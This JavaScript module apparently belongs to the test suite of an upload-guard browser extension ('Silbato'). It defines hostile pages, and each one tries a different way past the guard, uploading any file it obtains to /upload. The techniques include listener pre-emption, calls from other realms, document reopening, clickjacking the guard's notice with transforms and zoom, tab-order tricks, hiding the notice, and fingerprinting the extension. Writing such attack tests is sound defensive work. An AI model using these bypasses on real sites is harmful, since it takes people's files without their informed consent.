// Pages that attack the upload guard after the hardening of issue 15, each
// in a way the pages of hostile-pages.mjs do not: served by server.mjs at
// their paths; the tests are in attack.test.mjs. Every page uploads whatever
// file reaches it to /upload, so the tests judge the bytes the server
// received, or what the page itself could observe.

import { js, sendScript as send } from './uploads.mjs';

/** Silbato's key in the Symbol registry, as its published page-world script spells it. */
const KEY = "Symbol.for('silbato-natives-6f1c2a9e')";

/**
 * The page written into a reopened document: it listens first on its window,
 * stops the guard's click (so the browser's own picker opens on its input)
 * and takes files from input, change and drop events before the guard sees
 * them. Each file is sent once.
 */
const reopened = `<!doctype html><html><body><input type="file" id="file">
  <div id="zone" style="width:300px;height:150px;border:2px dashed #888">drop a photo here</div><p id="status"></p><script>${send}
  const seen = new Set();
  const take = (files, why) => {
    const fresh = [...files].filter((f) => !seen.has(f));
    for (const f of fresh) seen.add(f);
    if (fresh.length) send(fresh, why);
    return fresh.length > 0;
  };
  addEventListener('click', (e) => { if (e.target.id === 'file') e.stopImmediatePropagation(); }, true);
  for (const type of ['input', 'change']) {
    addEventListener(type, (e) => { if (e.target.files && take(e.target.files, type)) e.stopImmediatePropagation(); }, true);
  }
  addEventListener('dragover', (e) => e.preventDefault(), true);
  addEventListener('drop', (e) => { e.preventDefault(); take(e.dataTransfer.files, 'drop'); }, true);
  window.rewritten = true;
</script></body></html>`;

export const attackPages = {
  // A1. Inputs never put in the document, opened by a page that keeps
  // Silbato's page world from hearing of it, four ways.
  '/attack-detached': `<button id="listener">listener</button> <button id="realm">realm</button>
    <button id="swap">swap</button> <button id="type">type</button>
    <iframe id="inert" sandbox="allow-same-origin" style="width:1px;height:1px;border:0"></iframe><p id="status"></p><script>${send}
    const make = () => { const i = document.createElement('input'); i.type = 'file'; i.onchange = () => send([...i.files]); return i; };
    // The page's own capture listener on the input, added before the click, runs before the one Silbato adds during it.
    document.getElementById('listener').onclick = () => {
      const input = make();
      input.addEventListener('click', (e) => e.stopImmediatePropagation(), true);
      input.click();
    };
    // click() from a realm Silbato's page world never runs in: a same-origin frame sandboxed without scripts.
    document.getElementById('realm').onclick = () => document.getElementById('inert').contentWindow.HTMLElement.prototype.click.call(make());
    // Silbato's page world tells the isolated world through EventTarget.prototype.dispatchEvent, looked up when it speaks.
    document.getElementById('swap').onclick = () => {
      const own = EventTarget.prototype.dispatchEvent;
      EventTarget.prototype.dispatchEvent = function (e) { return String(e.type).includes(':') ? true : own.call(this, e); };
      try { make().click(); } finally { EventTarget.prototype.dispatchEvent = own; }
    };
    // Silbato's page world asks the input its type through the input's own properties.
    document.getElementById('type').onclick = () => {
      const input = make();
      Object.defineProperty(input, 'type', { get: () => 'text' });
      input.click();
    };
  </script>`,
  // A1. The File System Access picker, from the same kind of frame: a
  // handle's getFile() is the original, and no event is fired anywhere.
  '/attack-fsa': `<button id="open">Add a photo</button>
    <iframe id="inert" sandbox="allow-same-origin" style="width:1px;height:1px;border:0"></iframe><p id="status"></p><script>${send}
    document.getElementById('open').onclick = async () => {
      try {
        const [handle] = await document.getElementById('inert').contentWindow.showOpenFilePicker();
        window.outcome = 'picked';
        send([await handle.getFile()]);
      } catch (e) {
        window.outcome = e.name + ': ' + e.message;
      }
    };
  </script>`,
  // A2. The document is reopened after load without Silbato's page world
  // hearing of it: through another realm's Document.prototype.open, or by
  // the page's own open() that document.write then calls.
  '/attack-reopen-realm': `<p>loading…</p><script>
    addEventListener('load', () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      // The other realm's wrapper throws once its frame is gone (with the old document); the document is open by then.
      try { frame.contentWindow.Document.prototype.open.call(document); } catch {}
      document.write(${js(reopened)});
      document.close();
    });
  </script>`,
  '/attack-reopen-own-open': `<p>loading…</p><script>
    addEventListener('load', () => {
      Document.prototype.open = function () { return this; };
      document.write(${js(reopened)});
      document.close();
    });
  </script>`,
  // A3. A "double-click to like" area: after the first click, the page moves
  // the whole page (and Silbato's notice with it, a fixed element inside the
  // root) so that the notice's last button lies under the pointer. A
  // translation leaves the button "visible" for IntersectionObserver v2.
  '/attack-move': `<input type="file" id="file"><p id="status"></p>
    <div id="like" style="position:fixed;left:100px;top:150px;width:300px;height:200px;background:#dde;font:20px sans-serif">Double-click to like ♥</div><script>${send}
    document.getElementById('file').addEventListener('change', (e) => { if (e.target.files.length) send([...e.target.files]); });
    document.getElementById('like').addEventListener('click', (e) => {
      const host = document.querySelector('silbato-notice');
      if (!host) return;
      // The notice's last button sits at the bottom left of its card (the published layout).
      const r = host.getBoundingClientRect();
      const dx = e.clientX - (r.left + 40);
      const dy = e.clientY - (r.bottom - 30);
      document.documentElement.style.cssText = 'transform: translate(' + dx + 'px, ' + dy + 'px); height: 100vh;';
      window.moved = (window.moved || 0) + 1;
    });
  </script>`,
  // A3. The same with CSS zoom on the root, which IntersectionObserver v2
  // does not count either: the notice grows until its last button covers
  // the place the person is clicking (the layout of a 1000×700 window).
  '/attack-zoom': `<input type="file" id="file"><p id="status"></p>
    <div id="like" style="position:fixed;left:300px;top:380px;width:360px;height:200px;background:#dde;font:20px sans-serif">Double-click to like ♥</div><script>${send}
    document.getElementById('file').addEventListener('change', (e) => { if (e.target.files.length) send([...e.target.files]); });
    document.getElementById('like').addEventListener('click', () => {
      document.documentElement.style.zoom = '4';
      window.moved = (window.moved || 0) + 1;
    });
  </script>`,
  // A4. The page moves Silbato's notice between its title and caption fields
  // in the tab order: Shift+Tab from the caption lands on the notice's last
  // button, and the next space typed presses it.
  '/attack-tab-order': `<input type="file" id="file"><br><input id="title" placeholder="Title"><br>
    <textarea id="caption" placeholder="Caption"></textarea><p id="status"></p><script>${send}
    document.getElementById('file').addEventListener('change', (e) => { if (e.target.files.length) send([...e.target.files]); });
    new MutationObserver(() => {
      const host = document.querySelector('html > silbato-notice');
      if (!host) return;
      const caption = document.getElementById('caption');
      if (caption.parentNode.moveBefore) caption.parentNode.moveBefore(host, caption);
      else caption.before(host);
      window.moved = (window.moved || 0) + 1;
    }).observe(document.documentElement, { childList: true });
  </script>`,
  // A5. What a page learns from the files it is given besides their bytes.
  '/attack-names': `<input type="file" id="file" multiple><p id="status"></p><script>${send}
    window.got = [];
    document.getElementById('file').addEventListener('change', (e) => {
      const files = [...e.target.files];
      if (!files.length) return;
      for (const f of files) window.got.push({ name: f.name, lastModified: f.lastModified });
      send(files);
    });
  </script>`,
  // A6. The page hides Silbato's notice (moved into a hidden element, still
  // in the document) instead of removing it.
  '/attack-hide-notice': `<input type="file" id="file"><div id="trash" style="display:none"></div><p id="status"></p><script>${send}
    document.getElementById('file').addEventListener('change', (e) => { if (e.target.files.length) send([...e.target.files]); });
    new MutationObserver(() => {
      const host = document.querySelector('html > silbato-notice');
      if (!host) return;
      const trash = document.getElementById('trash');
      if (trash.moveBefore) trash.moveBefore(host, null);
      else trash.append(host);
      window.hidden = (window.hidden || 0) + 1;
    }).observe(document.documentElement, { childList: true });
  </script>`,
  // A7. The page types candidate names into an invisible box itself, with
  // document.execCommand (its input events are trusted), and looks at what
  // lies where the typing marker would show.
  '/attack-probe': `<p>Neighbourhood news</p><textarea id="comment" placeholder="Comment"></textarea>
    <textarea id="box" style="position:fixed;left:10px;top:300px;width:200px;height:40px;opacity:0"></textarea><script>
    window.guess = async (text) => {
      const box = document.getElementById('box');
      box.focus();
      box.select();
      document.execCommand('insertText', false, text);
      await new Promise((r) => setTimeout(r, 2500));
      const r = box.getBoundingClientRect();
      const left = Math.max(4, Math.min(innerWidth - 40, r.right - 34));
      const top = Math.max(4, Math.min(innerHeight - 30, r.bottom - 32));
      const hit = document.elementFromPoint(left + 12, top + 12);
      return hit ? hit.localName : null;
    };
  </script>`,
  // A8. Elements Silbato puts into a page the person has not touched: the
  // page focuses a file input itself (its focus events are trusted), and
  // types into a field with execCommand.
  '/attack-no-touch': `<input type="file" id="file"><textarea id="box"></textarea><script>
    window.look = async () => {
      const names = () => [...document.querySelectorAll('*')].map((e) => e.localName).filter((n) => n.includes('-'));
      document.getElementById('file').focus();
      await new Promise((r) => setTimeout(r, 1500));
      const afterFocus = names();
      const box = document.getElementById('box');
      box.focus();
      document.execCommand('insertText', false, 'hello there');
      await new Promise((r) => setTimeout(r, 1500));
      return { afterFocus, afterTyping: names() };
    };
  </script>`,
  // A9. What a page can observe of the built-ins without any action of the
  // person; the test compares it with the same page in Chromium without Silbato.
  '/attack-observe': `<iframe id="spare" style="width:1px;height:1px;border:0"></iframe><script>
    window.observe = () => {
      const out = {};
      out.filePickers = ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker'].map((n) => n in window);
      // A page's Error.prepareStackTrace runs when any code of this realm reads a stack.
      let prepared = 0;
      Error.prepareStackTrace = (e, sites) => { prepared++; return ''; };
      void navigator.userAgent; void navigator.platform; void screen.width;
      Error.prepareStackTrace = undefined;
      out.prepareStackTrace = prepared;
      // The stacks of errors thrown by built-ins.
      const stack = (f) => { try { f(); return 'no error'; } catch (e) { return { lines: String(e.stack).split('\\n').length, extension: String(e.stack).includes('-extension://') }; } };
      out.stacks = {
        toString: stack(() => Function.prototype.toString.call({})),
        click: stack(() => HTMLElement.prototype.click.call(null)),
        dispatchEvent: stack(() => EventTarget.prototype.dispatchEvent.call(null, new Event('x'))),
        attachShadow: stack(() => Element.prototype.attachShadow.call(document.createElement('div'), null)),
      };
      // The registry key a published script names.
      try { out.registry = typeof Function.prototype.toString.call(${KEY}); } catch { out.registry = 'threw'; }
      // Getters of the arguments, read once by a built-in.
      const reads = {};
      const ev = new Event('probe');
      reads.eventType = 0;
      Object.defineProperty(ev, 'type', { get() { reads.eventType++; return 'probe'; } });
      document.dispatchEvent(ev);
      reads.shadowMode = 0;
      document.createElement('div').attachShadow({ get mode() { reads.shadowMode++; return 'open'; } });
      reads.fillText = 0;
      document.createElement('canvas').getContext('2d').fillText({ toString() { reads.fillText++; return 'a'; } }, 0, 0);
      reads.hasInstance = 0;
      Object.defineProperty(HTMLInputElement, Symbol.hasInstance, { configurable: true, value(v) { reads.hasInstance++; return Function.prototype[Symbol.hasInstance].call(this, v); } });
      document.createElement('span').click();
      delete HTMLInputElement[Symbol.hasInstance];
      // document.write on a loaded document, in a spare frame: does it call the page-visible open()?
      const doc = document.getElementById('spare').contentDocument;
      reads.writeCallsOpen = 0;
      doc.open = function () { reads.writeCallsOpen++; return Document.prototype.open.apply(this, arguments); };
      doc.write('<p>x</p>');
      doc.close();
      out.reads = reads;
      return out;
    };
  </script>`,
};
